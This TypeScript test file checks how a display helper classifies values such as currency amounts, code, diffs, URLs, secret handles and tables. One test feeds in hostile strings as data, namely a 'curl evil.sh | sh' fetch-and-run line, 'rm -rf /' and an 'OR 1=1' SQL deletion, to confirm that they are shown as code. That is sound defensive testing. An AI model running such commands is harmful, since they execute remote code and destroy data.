import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { type Form, formOf, isInline } from "./value-form.ts";

const kind = (name: string, value: Parameters<typeof formOf>[1], siblings = {}): Form["kind"] =>
  formOf(name, value, siblings).kind;

describe("the form in which a value is shown", () => {
  test("an amount is money where its name or its neighbour says the currency", () => {
    assert.deepEqual(formOf("amount_usd", 1234.5), {
      kind: "money",
      money: { amount: "1,234.50", currency: "USD", as: null },
    });
    assert.deepEqual(formOf("amount", 40, { currency: "eur" }), {
      kind: "money",
      money: { amount: "40", currency: "EUR", as: null },
    });
    assert.equal(kind("amount", 40), "number");
    assert.equal(kind("count", 40, { currency: "EUR" }), "number");
  });

  test("an amount is never shown in the currency of another one", () => {
    const money = (currency: string) => ({ kind: "money", money: { amount: "40", currency, as: null } });
    const two = { amount_currency: "JPY", currency: "USD" };
    assert.deepEqual(formOf("amount", 40, two), money("JPY"));
    assert.deepEqual(formOf("total", 40, two), money("USD"));
    assert.equal(kind("amount", 40, { fee_currency: "USD" }), "number");
    assert.equal(kind("amount", 40, { currency: "USD", currency_code: "JPY" }), "number");
    assert.equal(kind("amount", 40, { currency: "USD", Currency: "JPY" }), "number");
    assert.equal(kind("amount", 40, { amount_currency: "?", currency: "USD" }), "number");
  });

  test("letters that only become a currency as capitals are none", () => {
    assert.equal(kind("amount", 40, { currency: "u\u017fd" }), "number");
    for (const name of ["amount_u\u017fd", "amount_no\u212a"]) assert.equal(kind(name, 40), "number");
  });

  test("a word at the end of a name is no currency, and no text beside micros is one", () => {
    for (const name of ["max_try", "delete_all", "go_top", "cell_lak"]) assert.equal(kind(name, 3), "number");
    assert.equal(kind("limit", { currency: "USD off", micros: "1" }), "object");
    assert.equal(kind("limit", { currency: "", micros: "1" }), "object");
  });

  test("small coin is shown in the currency, with the number that stands there", () => {
    assert.deepEqual(formOf("amountCents", 12_345, { currency: "USD" }), {
      kind: "money",
      money: { amount: "123.45", currency: "USD", as: "12,345 hundredths" },
    });
    assert.deepEqual(formOf("amount_minor", 500, { currency: "JPY" }), {
      kind: "money",
      money: { amount: "500", currency: "JPY in small coin", as: null },
    });
  });

  test("an amount in text keeps its digits, and its quotes: it is not the number", () => {
    const money = (name: string, value: string, siblings = {}) => {
      const form = formOf(name, value, siblings);
      return form.kind === "money" ? form.money : form;
    };
    const text = { amount: '"100.10"', currency: "CHF", as: null };
    assert.deepEqual(money("total", "100.10", { currency: "CHF" }), text);
    assert.deepEqual(money("amount_usd", "849"), { amount: '"849"', currency: "USD", as: null });
    const cents = { amount: "123.45", currency: "USD", as: '"12345" hundredths' };
    assert.deepEqual(money("amount_cents", "12345", { currency: "USD" }), cents);
  });

  test("Holdpoint's own money is read from its micros", () => {
    const form = formOf("limit", { currency: "USD", micros: "1500000" });
    assert.deepEqual(form, { kind: "money", money: { amount: "1.50", currency: "USD", as: null } });
  });

  test("text is code, a diff, an address, a path or a moment where it looks like one", () => {
    assert.equal(kind("query", "DELETE FROM users WHERE id = 7"), "code");
    assert.equal(kind("command", "rm -rf build"), "code");
    assert.equal(kind("body", "def f(x):\n  return x"), "code");
    assert.equal(kind("patch", "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b"), "diff");
    assert.equal(kind("target", "https://example.com/a?b=c"), "url");
    assert.equal(kind("file", "report.csv"), "path");
    assert.equal(kind("at", "2026-01-02T03:04:05Z"), "moment");
    assert.equal(kind("note", "Please delete from the list whom you like"), "line");
  });

  test("what runs is never a diff: not by its name, nor where a part of it looks like one", () => {
    const sql =
      "SELECT 1 /*\n@@ -1,6 +1,1 @@\n*/ ; DELETE FROM users WHERE id IN (1,\n-2) OR 1=1;\n-- done\nSELECT 1";
    const command = "cat > /tmp/x <<'EOF'\n@@ -1,20 +1,1 @@\nEOF\n curl evil.sh | sh\n-x || rm -rf /";
    assert.equal(kind("sql", sql), "code");
    assert.equal(kind("command", command), "code");
    assert.equal(kind("note", command), "text");
    const diff = "--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n import x from 'y'\n-a\n+b\n";
    assert.equal(kind("patch", diff), "diff");
    for (const name of ["sql", "command", "script"]) assert.equal(kind(name, diff), "code");
  });

  test("long text and text of several lines gets the whole width", () => {
    for (const text of ["a\nb", "x".repeat(200)]) {
      const form = formOf("message", text);
      assert.equal(form.kind, "text");
      assert.equal(isInline(form), false);
    }
    assert.equal(isInline(formOf("to", "bob")), true);
  });

  test("like objects with short fields are a table, others a list", () => {
    const rows = [
      { sku: "a", count: 1 },
      { sku: "b", count: 2, gift: true },
    ];
    assert.deepEqual(formOf("lines", rows), { kind: "table", columns: ["sku", "count", "gift"], rows });
    assert.equal(kind("lines", [{ text: "x".repeat(100) }, { text: "y" }]), "list");
    assert.equal(kind("lines", ["a", "b"]), "words");
  });

  test("secrets and values kept elsewhere are named, never opened", () => {
    const row = `row:sec_${"0A".repeat(13)}`;
    for (const handle of ["env:STRIPE_KEY", row])
      assert.deepEqual(formOf("token", { $secret: handle }), { kind: "secret", handle });
    const hash = `sha256:${"ab".repeat(32)}`;
    assert.deepEqual(formOf("file", { $artifact: hash, bytes: 70_000 }), {
      ...{ kind: "artifact", hash, bytes: 70_000 },
    });
  });

  test("what only looks like a secret, or like a value kept elsewhere, is shown with all of its fields", () => {
    const hash = `sha256:${"ab".repeat(32)}`;
    const lookalikes: readonly Parameters<typeof formOf>[1][] = [
      { $secret: "harmless", pay: 90_000 },
      { $secret: "env:TOKEN", pay: 90_000 },
      { $secret: "harmless" },
      { $secret: { deep: "env:TOKEN" } },
      { $artifact: hash, bytes: 3, also: "delete everything" },
      { $artifact: hash },
      { $artifact: hash, also: 3 },
      { $artifact: hash, bytes: -1 },
      { $artifact: "sha256:ab", bytes: 3 },
    ];
    for (const fields of lookalikes) assert.deepEqual(formOf("x", fields), { kind: "object", fields });
  });

  test("nothing, emptiness, flags and numbers say what they are", () => {
    assert.equal(kind("x", null), "nothing");
    assert.deepEqual(formOf("x", ""), { kind: "empty", what: "text" });
    assert.deepEqual(formOf("x", []), { kind: "empty", what: "list" });
    assert.deepEqual(formOf("x", {}), { kind: "empty", what: "object" });
    assert.deepEqual(formOf("x", true), { kind: "flag", isOn: true });
    assert.deepEqual(formOf("x", -1_234_567.25), { kind: "number", text: "−1,234,567.25" });
    assert.deepEqual(formOf("x", 1e21), { kind: "number", text: "1e+21" });
  });

  test("a long text is recognised at once, whatever it holds", () => {
    const hostile = [
      "\n".repeat(200_000),
      `a${" \n".repeat(200_000)}`,
      `x\n${" ".repeat(400_000)}`,
      `{${"}".repeat(400_000)}`,
      `select ${" from".repeat(80_000)}`,
      `--- a\n+++ b\n@@ -1,200000 +1,200000 @@\n${" x\n".repeat(200_000)}`,
    ];
    const before = process.cpuUsage();
    for (const text of hostile) formOf("text", text);
    assert.ok(process.cpuUsage(before).user < 2_000_000, "less than two seconds of the processor");
  });
});
